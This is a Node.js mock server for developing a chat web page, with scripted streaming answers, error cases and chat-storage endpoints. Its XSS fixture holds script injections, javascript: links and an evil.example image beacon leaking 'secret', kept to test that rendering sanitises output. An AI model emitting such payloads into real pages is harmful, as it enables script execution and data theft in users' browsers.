/**
 * A stand-in for the server while the page is made: the page's API in memory, and answers chosen by a word in the
 * question (see `SCRIPTS`). Never shipped. `node dev/mock.mjs [--port N] [--key KEY]` serves ../dist as the server does.
 */

import { createServer } from 'node:http';
import { readFileSync } from 'node:fs';
import { extname, join, normalize } from 'node:path';
import { pathToFileURL } from 'node:url';

const DIST = join(import.meta.dirname, '..', 'dist');
const CSP =
  "default-src 'none'; script-src 'self'; style-src 'self'; img-src 'self' data: blob:; font-src 'self'; connect-src 'self'; " +
  "manifest-src 'self'; worker-src 'self'; base-uri 'none'; form-action 'none'; frame-ancestors 'none'; require-trusted-types-for 'script'";
const TYPES = {
  '.html': 'text/html; charset=utf-8',
  '.js': 'text/javascript',
  '.css': 'text/css',
  '.svg': 'image/svg+xml',
  '.woff2': 'font/woff2',
  '.txt': 'text/plain; charset=utf-8',
  '.json': 'application/json',
};

const THOUGHT =
  'The numbers are 3, 5, 8 and 12; the goal is 24.\n3 + 5 = 8, and 12 - 8 = 4, 4 * 8 = 32. No.\nWait, 8 / (5 - 3) = 4, 12 + 4 = 16. No.\n' +
  '12 * (5 - 3) = 24, and the 8 is left. No.\n(8 - 5) * 12 = 36, 36 - 3 = 33. No.\n8 + 12 = 20, 20 + 5 = 25... 25 - 3 = 22. No.\n' +
  '12 / 3 = 4, 8 - 5 = 3... 4 * 3 = 12. Hmm.\n3 * 8 = 24, 12 - 5 = 7. No.\n5 * 3 = 15, 15 - 12 = 3, 3 * 8 = 24. Yes!\n';
const COUNTDOWN =
  'One way:\n\n$$(5 \\times 3 - 12) \\times 8 = 24$$\n\nEach number is used once: $5 \\times 3 = 15$, then $15 - 12 = 3$, then $3 \\times 8 = 24$.';
const ARABIC =
  'عدد الأقلام في العلب الثلاث هو 3 × 12 = 36 قلمًا.\n\nثم أعطت سلمى أخاها 9 أقلام، فبقي معها:\n\n$$36 - 9 = 27$$\n\n' +
  '**الجواب: 27 قلمًا.**\n\nويمكن كتابة ذلك بلغة Python هكذا:\n\n```python\nboxes, each, given = 3, 12, 9\nprint(boxes * each - given)  # 27\n```\n\n' +
  '| الخطوة | العملية | الناتج |\n|---|---|---|\n| المجموع | 3 × 12 | 36 |\n| الباقي | 36 - 9 | 27 |\n';
const ARABIC_THOUGHT =
  'في كل علبة 12 قلمًا، وعدد العلب 3.\n3 × 12 = 36.\nأعطت 9، إذن 36 - 9 = 27.\nأتحقق: 27 + 9 = 36، صحيح.\n';
const RICH =
  '# Quicksort in three steps\n\nPick a pivot $p$, split, and sort both sides. On average it takes $O(n \\log n)$ comparisons:\n\n' +
  '$$T(n) = \\frac{1}{n}\\sum_{k=0}^{n-1}\\bigl(T(k) + T(n-1-k)\\bigr) + \\Theta(n)$$\n\n```rust\nfn quicksort<T: Ord + Clone>(items: &[T]) -> Vec<T> {\n' +
  '    let Some((pivot, rest)) = items.split_first() else { return vec![] };\n    let (low, high): (Vec<_>, Vec<_>) = rest.iter().cloned().partition(|x| x < pivot);\n' +
  '    // The pivot stands between both sides.\n    [quicksort(&low), vec![pivot.clone()], quicksort(&high)].concat()\n}\n```\n\n## Cost\n\n| case | comparisons | memory |\n|:---|---:|---:|\n' +
  '| best | $n \\log_2 n$ | $\\log_2 n$ |\n| worst | $n^2 / 2$ | $n$ |\n\n1. *Stable?* No.\n2. **In place?** Not in this form:\n   - it copies both sides,\n   - and `concat` copies again.\n\n' +
  '> Hoare wrote it in 1959 to sort words for translation from Russian.\n\nMore in [the paper](https://academic.oup.com/comjnl/article/5/1/10/395338) or at https://example.org/sort.\n';
const XSS =
  '<img src=x onerror=alert(1)><script>window.__pwned=1</script>\n\n[click](javascript:alert(1)) ![spy](https://evil.example/x.png?q=secret) ' +
  '[data](data:text/html,<script>1</script>) <https://evil.example/a>\n\n[ref]: javascript:alert(2)\n[go][ref]\n\n$\\href{javascript:alert(1)}{x}$ $\\includegraphics{https://evil.example/y.png}$\n\n```html\n<script>window.__pwned=2</script>\n```\n';

/** The first entry whose word stands in the question gives the answer. */
export const SCRIPTS = [
  [/#401/, { status: 401, message: 'The API key is not valid.' }],
  [/#402/, { status: 402, message: 'The balance of this key is used up.' }],
  [/#413/, { status: 413, message: 'The body has 9000000 bytes, the limit is 8388608.' }],
  [/#422/, { status: 422, message: 'temperature is 3, it must be between 0 and 2.' }],
  [/#429/, { status: 429, message: 'This key has 4 requests running, its limit is 4.', retry: 8 }],
  [/#500/, { status: 500, message: 'A worker stopped.' }],
  [/#503/, { status: 503, message: 'The queue is full.', retry: 2 }],
  [/#midway/, { content: 'This begins well and then', midway: true }],
  [/#break/, { content: 'One sentence arrives, and then the line is', cut: true }],
  [/#queue/, { queue: 900, content: 'It was worth the wait.' }],
  [/#xss/, { content: XSS }],
  [
    /#long/,
    {
      content: Array.from(
        { length: 60 },
        (_, i) => `Paragraph ${i + 1}. ${'The tide comes in and goes out again. '.repeat(4)}`,
      ).join('\n\n'),
    },
  ],
  [/#slow/, { thought: THOUGHT, content: 'Slowly does it. '.repeat(40), wait: 60 }],
  [
    /#rich|quicksort/i,
    { thought: 'The question is about sorting. I should show code, cost and a table.\n', content: RICH },
  ],
  [
    /#wrong/,
    {
      content: '3 + 5 + 8 + 12 = 24',
      verdict: { task: 'countdown', ok: false, detail: { en: '3 + 5 + 8 + 12 = 28', ar: '3 + 5 + 8 + 12 = 28' } },
    },
  ],
  [
    /24|43/,
    {
      thought: THOUGHT,
      content: COUNTDOWN,
      verdict: { task: 'countdown', ok: true, detail: { en: '(5 * 3 - 12) * 8 = 24', ar: '(5 * 3 - 12) * 8 = 24' } },
    },
  ],
  [/4817/, { content: '4817 + 2965 = **7782**', verdict: { task: 'arithmetic', ok: true, detail: null } }],
  [
    /[\u0600-\u06ff]/u,
    {
      thought: ARABIC_THOUGHT,
      content: ARABIC,
      verdict: { task: 'word problem', ok: true, detail: { en: '27', ar: '27' } },
    },
  ],
  [
    /who are you/i,
    {
      content:
        'I am **nano**, a small model that learned to reason inside this program. I can do sums, countdown puzzles and short word problems in English and Arabic. I know little else, and I can be wrong.',
    },
  ],
  [/./s, { thought: 'A plain question.\n', content: 'A plain answer, in two sentences. Nothing more is known here.' }],
];

const pause = (ms) => new Promise((resolve) => setTimeout(resolve, ms));
const DAY = 86_400_000;

export function startMock({ port = 8091, key = '', speed = 1 } = {}) {
  const chats = new Map();
  const state = { requests: [], speed };
  const send = (res, status, body, headers = {}) => {
    res.writeHead(status, { 'Content-Type': 'application/json', ...headers });
    res.end(body === undefined ? undefined : JSON.stringify(body));
  };
  const fail = (res, status, message, code = null, headers = {}) =>
    send(res, status, { error: { message, type: 'invalid_request_error', param: null, code } }, headers);

  const info = {
    name: 'fathom',
    version: '0.1.0',
    key_needed: key !== '',
    store: true,
    models: [
      {
        id: 'nano',
        context_tokens: 4096,
        reasoning: true,
        thinking_switch: true,
        chat: true,
        built_in: true,
        defaults: { temperature: 0.6, top_p: 0.95 },
        budget_curve: {
          task: { en: 'countdown, 4 numbers', ar: 'لغز الأعداد، 4 أعداد' },
          points: [
            [64, 0.14],
            [128, 0.27],
            [256, 0.45],
            [512, 0.58],
            [1024, 0.66],
            [2048, 0.69],
          ],
        },
      },
      {
        id: 'deepseek-v2-lite',
        context_tokens: 32768,
        reasoning: false,
        thinking_switch: false,
        chat: true,
        defaults: { temperature: 0.3, top_p: 0.95 },
      },
      { id: 'text-embedder', chat: false },
    ],
    limits: { body_bytes_max: 8388608, chat_bytes_max: 4194304 },
    prices: { currency: 'USD', cache_hit: 0.07, cache_miss: 0.27, output: 1.1 },
    joules: 'estimated',
  };

  function usage(from, to) {
    const rows = [];
    for (let t = Date.parse(from); t <= Date.parse(to); t += DAY) {
      const day = new Date(t).toISOString().slice(0, 10);
      const n = Math.floor(t / DAY);
      [
        ['nano', 900],
        ['deepseek-v2-lite', 420],
      ].forEach(([model, base], i) => {
        const w = Math.abs(Math.sin(n * 1.7 + i * 2.1)) * ((n + 3) % 7 < 2 ? 0.2 : 1);
        if (w < 0.12) return;
        const out = Math.round(base * w * 14);
        rows.push({
          day,
          model,
          requests: Math.ceil(w * 24),
          cache_hit_tokens: Math.round(out * 0.8),
          cache_miss_tokens: Math.round(out * 0.5),
          completion_tokens: out,
          reasoning_tokens: Math.round(out * 0.4),
          cost: (out * 1.7e-6).toFixed(6),
          seconds: out / 40,
          joules: out * 0.9,
          joules_label: 'estimated',
        });
      });
    }
    const total = {
      requests: 0,
      cache_hit_tokens: 0,
      cache_miss_tokens: 0,
      completion_tokens: 0,
      reasoning_tokens: 0,
      cost: 0,
      seconds: 0,
      joules: 0,
      joules_label: 'estimated',
    };
    for (const row of rows) for (const k of Object.keys(total)) if (k !== 'joules_label') total[k] += Number(row[k]);
    return { currency: 'USD', balance: '12.345678', rows, total: { ...total, cost: total.cost.toFixed(6) } };
  }

  async function complete(req, res, body) {
    state.requests.push(body);
    const last = body.messages.at(-1);
    const prefix = last.role === 'assistant' && last.prefix === true;
    const question = body.messages.filter((m) => m.role === 'user').at(-1)?.content ?? '';
    const script = SCRIPTS.find(([word]) => word.test(question))[1];
    if (script.status !== undefined) {
      return fail(
        res,
        script.status,
        script.message,
        null,
        script.retry === undefined ? {} : { 'Retry-After': String(script.retry) },
      );
    }
    res.writeHead(200, { 'Content-Type': 'text/event-stream', 'Cache-Control': 'no-store' });
    let gone = false;
    res.on('close', () => {
      gone = true;
    });
    const wait = (script.wait ?? 6) / state.speed;
    const event = (value) => res.write(`data: ${JSON.stringify(value)}\n\n`);
    const chunk = (delta, finish = null) =>
      event({
        id: 'x',
        object: 'chat.completion.chunk',
        model: body.model,
        choices: [{ index: 0, delta, finish_reason: finish }],
      });
    for (let i = 0; script.queue && i < 3; i++) {
      res.write(': keep-alive\n\n');
      await pause(script.queue / 3);
    }
    chunk({ role: 'assistant', content: '' });
    const thinking = info.models.find((m) => m.id === body.model)?.reasoning && body.thinking?.type !== 'disabled';
    let thought = thinking ? (script.thought ?? '') : '';
    let content = script.content;
    if (prefix) {
      thought =
        thought.startsWith(last.reasoning_content ?? '') && last.content === ''
          ? thought.slice((last.reasoning_content ?? '').length)
          : '';
      content = content.startsWith(last.content) ? content.slice(last.content.length) : content;
      if (script.cut || script.midway) content += ' whole again, to the end.';
    }
    const pieces = (text) => text.match(/\s*\S{1,4}|\s+$/gu) ?? [];
    for (const piece of pieces(thought)) {
      if (gone) return;
      chunk({ reasoning_content: piece });
      await pause(wait);
    }
    for (const piece of pieces(content)) {
      if (gone) return;
      // One event in two writes, cut in the middle of its bytes: the page must put characters together again.
      const bytes = Buffer.from(
        `data: ${JSON.stringify({ choices: [{ index: 0, delta: { content: piece }, finish_reason: null }] })}\n\n`,
      );
      const cut = Math.floor(bytes.length * 0.73);
      res.write(bytes.subarray(0, cut));
      res.write(bytes.subarray(cut));
      await pause(wait);
    }
    if (!prefix && script.cut) return res.destroy();
    if (!prefix && script.midway) {
      event({
        error: { message: 'The engine was stopped by its owner.', type: 'server_error', param: null, code: null },
      });
      return res.end();
    }
    chunk({}, 'stop');
    const n = pieces(content).length;
    const r = pieces(thought).length;
    event({
      choices: [],
      usage: {
        prompt_tokens: 31,
        completion_tokens: n + r,
        total_tokens: 31 + n + r,
        prompt_cache_hit_tokens: 16,
        prompt_cache_miss_tokens: 15,
        completion_tokens_details: { reasoning_tokens: r },
      },
      fathom: {
        queue_seconds: 0,
        prompt_seconds: 0.12,
        decode_seconds: (n + r) / 87.4,
        tokens_per_second: 87.4,
        reasoning_seconds: r === 0 ? null : r / 87.4,
        cost: ((n + r) * 1.1e-6).toFixed(6),
        currency: 'USD',
        joules: (n + r) * 0.09,
        joules_label: 'estimated',
        seed: 20259,
        verdict: script.verdict ?? null,
      },
    });
    res.end('data: [DONE]\n\n');
  }

  function chatsApi(req, res, url, body) {
    const id = url.pathname.split('/')[3];
    const row = (c) => ({
      id: c.id,
      title: c.title,
      created_ms: c.created_ms,
      updated_ms: c.updated_ms,
      revision: c.revision,
      bytes: JSON.stringify(c.chat).length,
    });
    if (id === undefined) {
      if (req.method === 'DELETE') {
        chats.clear();
        return send(res, 204);
      }
      const words = (url.searchParams.get('q') ?? '').toLowerCase().split(/\s+/).filter(Boolean);
      const hits = [...chats.values()]
        .filter((c) => words.every((w) => JSON.stringify(c.chat).toLowerCase().includes(w)))
        .sort((a, b) => b.updated_ms - a.updated_ms);
      return send(res, 200, {
        chats: hits.map((c) => ({ ...row(c), ...(words.length ? { excerpt: 'found here' } : {}) })),
        next: null,
      });
    }
    if (id === 'export') return send(res, 200, { format: 'fathom-chats-1', chats: [...chats.values()] });
    const old = chats.get(id);
    if (req.method === 'PUT') {
      if ((old?.revision ?? null) !== body.revision)
        return fail(res, 409, `revision ${body.revision} is not the last one`, 'revision_conflict');
      const c = {
        id,
        title: body.chat.title,
        created_ms: old?.created_ms ?? Date.now(),
        updated_ms: Date.now(),
        revision: (old?.revision ?? 0) + 1,
        chat: body.chat,
      };
      chats.set(id, c);
      return send(res, 200, row(c));
    }
    if (old === undefined) return fail(res, 404, 'no such chat');
    if (req.method === 'DELETE') {
      chats.delete(id);
      return send(res, 204);
    }
    if (req.method === 'PATCH') {
      Object.assign(old, { title: body.title, revision: old.revision + 1, updated_ms: Date.now() });
      return send(res, 200, row(old));
    }
    return send(res, 200, { ...row(old), chat: old.chat });
  }

  function page(res, url) {
    const name = url.pathname === '/' || !url.pathname.includes('.') ? '/index.html' : normalize(url.pathname);
    let data;
    try {
      data = readFileSync(join(DIST, name));
    } catch {
      res.writeHead(404).end();
      return;
    }
    const forever = name.startsWith('/assets/');
    res.writeHead(200, {
      'Content-Type': TYPES[extname(name)] ?? 'application/octet-stream',
      'Content-Security-Policy': CSP,
      'X-Content-Type-Options': 'nosniff',
      'Referrer-Policy': 'no-referrer',
      'Cross-Origin-Opener-Policy': 'same-origin',
      'Cache-Control': forever ? 'public, max-age=31536000, immutable' : 'no-cache',
    });
    res.end(data);
  }

  const server = createServer(async (req, res) => {
    const url = new URL(req.url, 'http://local');
    const api = url.pathname.startsWith('/api/') || url.pathname.startsWith('/v1/');
    if (!api) return page(res, url);
    const parts = [];
    for await (const part of req) parts.push(part);
    const body = parts.length > 0 ? JSON.parse(Buffer.concat(parts).toString('utf8')) : undefined;
    if (url.pathname === '/api/info') return send(res, 200, info);
    if (key !== '' && req.headers.authorization !== `Bearer ${key}`)
      return fail(res, 401, 'The API key is missing or not valid.');
    if (url.pathname === '/v1/chat/completions') return complete(req, res, body);
    if (url.pathname === '/api/usage')
      return send(res, 200, usage(url.searchParams.get('from'), url.searchParams.get('to')));
    if (url.pathname.startsWith('/api/chats')) return chatsApi(req, res, url, body);
    return fail(res, 404, 'nothing here');
  });
  return new Promise((resolve) =>
    server.listen(port, '127.0.0.1', () =>
      resolve({
        url: `http://127.0.0.1:${server.address().port}`,
        state,
        chats,
        close: () =>
          new Promise((done) => {
            server.closeAllConnections();
            server.close(done);
          }),
      }),
    ),
  );
}

if (import.meta.url === pathToFileURL(process.argv[1] ?? '').href) {
  const arg = (name) => {
    const at = process.argv.indexOf(name);
    return at < 0 ? undefined : process.argv[at + 1];
  };
  const mock = await startMock({ port: Number(arg('--port') ?? 8091), key: arg('--key') ?? '' });
  console.log(`mock server at ${mock.url}`);
}
